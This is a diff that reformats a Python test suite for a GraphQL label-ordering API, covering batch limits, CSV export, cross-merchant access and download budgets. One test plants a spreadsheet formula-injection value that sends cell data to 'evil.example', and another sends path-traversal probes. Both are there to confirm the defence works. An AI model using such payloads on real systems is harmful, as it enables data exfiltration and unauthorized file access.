@@ -47,8 +47,9 @@ async def test_aliased_requests_in_one_document_share_one_batch_limit(
     assert body["data"]["second"]["errors"] == [{"field": "quantity", "code": "TOO_MANY_LABELS"}]
     assert await _codes(db) == 8
     # and a later request may ask again
-    again = await gql(TWICE, {"a": {**ask, "quantity": 2}, "b": {**ask, "quantity": 8}},
-                      token=world.a.token)  # fmt: skip
+    again = await gql(
+        TWICE, {"a": {**ask, "quantity": 2}, "b": {**ask, "quantity": 8}}, token=world.a.token
+    )
     assert [again["data"][k]["errors"] for k in ("first", "second")] == [[], []]
     assert await _codes(db) == 18
 
@@ -62,8 +63,11 @@ async def test_a_product_name_or_sku_that_is_a_formula_is_text_in_the_label_csv(
             .where(Product.id == world.a.approved_id)
             .values(name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
         )
-    body = await gql(ONE, {"a": {"productId": gid("Product", world.a.approved_id),
-                                 "quantity": 2}}, token=world.a.token)  # fmt: skip
+    body = await gql(
+        ONE,
+        {"a": {"productId": gid("Product", world.a.approved_id), "quantity": 2}},
+        token=world.a.token,
+    )
     assert body["data"]["requestLabels"]["errors"] == [], body
     url = body["data"]["requestLabels"]["labelBatch"]["csvUrl"]
     path = url if url.startswith("/") else "/" + url.split("/", 3)[3]
@@ -74,17 +78,22 @@ async def test_a_product_name_or_sku_that_is_a_formula_is_text_in_the_label_csv(
     # another merchant's token, and a path that is not an id, are the same 404
     other = await client.get(path, headers={"Authorization": f"Bearer {world.b.token}"})
     assert other.status_code == 404
-    for odd in ("/labels/batches/..%2F1.csv", "/labels/batches/%EF%BC%91.csv",
-                "/labels/batches/99999999999999999999999.csv", "/labels/batches/-1.csv"):
+    for odd in (
+        "/labels/batches/..%2F1.csv",
+        "/labels/batches/%EF%BC%91.csv",
+        "/labels/batches/99999999999999999999999.csv",
+        "/labels/batches/-1.csv",
+    ):
         response = await client.get(odd, headers={"Authorization": f"Bearer {world.a.token}"})
         assert response.status_code == 404, odd
 
 
-async def test_csv_downloads_with_a_token_spend_its_budget(
-    gql: Gql, world: World, client
-) -> None:
-    body = await gql(ONE, {"a": {"productId": gid("Product", world.a.approved_id),
-                                 "quantity": 2}}, token=world.a.token)  # fmt: skip
+async def test_csv_downloads_with_a_token_spend_its_budget(gql: Gql, world: World, client) -> None:
+    body = await gql(
+        ONE,
+        {"a": {"productId": gid("Product", world.a.approved_id), "quantity": 2}},
+        token=world.a.token,
+    )
     path = body["data"]["requestLabels"]["labelBatch"]["csvUrl"]
     client._transport.app.state.budget = MemoryBucket(capacity=2 * CSV_COST, rate=0.001)
     mine = {"Authorization": f"Bearer {world.a.token}"}
